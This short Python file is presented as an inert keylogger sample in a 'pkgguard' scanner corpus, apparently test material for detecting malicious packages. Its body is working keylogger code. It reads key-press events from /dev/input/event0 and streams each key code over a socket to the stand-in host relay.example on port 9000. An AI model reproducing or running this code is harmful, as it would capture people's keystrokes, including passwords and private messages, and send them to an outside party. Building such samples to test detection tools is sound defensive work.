# pkgguard corpus 180 (keylogger), modelled on [stealer-profile]; inert, never run.
import socket
import evdev

dev = evdev.InputDevice("/dev/input/event0")
sock = socket.create_connection(("relay.example", 9000))
for event in dev.read_loop():
    if event.type == evdev.ecodes.EV_KEY and event.value == 1:
        sock.sendall(str(event.code).encode() + b",")
